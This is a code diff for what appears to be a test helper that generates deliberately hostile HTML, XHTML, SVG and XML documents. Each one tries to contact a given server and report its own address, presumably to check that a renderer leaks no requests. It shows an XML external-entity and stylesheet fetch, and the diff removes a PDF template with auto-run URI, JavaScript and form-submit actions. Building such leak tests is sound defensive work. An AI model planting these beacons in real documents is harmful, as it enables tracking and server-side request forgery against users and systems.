@@ -1,22 +1,12 @@
-/** Documents that try in every way to contact another server and to send their address there. */
-export type HostileForm = 'html' | 'xhtml' | 'svg' | 'xml' | 'pdf'
+/** The types of documents that try in every way to contact another server and to send their address there. */
+export const typesOfForms = {
+  html: 'text/html',
+  xhtml: 'application/xhtml+xml',
+  svg: 'image/svg+xml',
+  xml: 'text/xml',
+} as const
 
-export const formsOf: Readonly<
-  Record<
-    HostileForm,
-    {
-      readonly type: string
-      /** The browser of the tests shows some types, and saves the files of all other types. */
-      readonly isShown: boolean
-    }
-  >
-> = {
-  html: { type: 'text/html', isShown: true },
-  xhtml: { type: 'application/xhtml+xml', isShown: true },
-  svg: { type: 'image/svg+xml', isShown: true },
-  xml: { type: 'text/xml', isShown: true },
-  pdf: { type: 'application/pdf', isShown: false },
-}
+export type HostileForm = keyof typeof typesOfForms
 
 /** Marks the document when the script runs, and sends the address of the document. */
 const script = (to: string) =>
@@ -68,13 +58,6 @@ const xml = (to: string) => `<?xml version="1.0"?><?xml-stylesheet href="${to}/s
   <!DOCTYPE a [<!ENTITY e SYSTEM "${to}/entity">]>
   <a><html xmlns="http://www.w3.org/1999/xhtml"><head>${head(to)}</head><body>${elements(to)}</body></html></a>`
 
-const pdf = (to: string) => `%PDF-1.4
-1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${to}/uri)>>/AA<</O<</S/JavaScript/JS(app.launchURL\\('${to}/js'\\))>>>>>>endobj
-2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
-3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/SubmitForm/F<</FS/URL/F(${to}/form)>>>>>>>>endobj
-trailer<</Root 1 0 R>>
-%%EOF`
-
-const written = { html, xhtml, svg, xml, pdf }
+const written = { html, xhtml, svg, xml }
 
 export const openForm = (form: HostileForm, to: string): string => written[form](to)
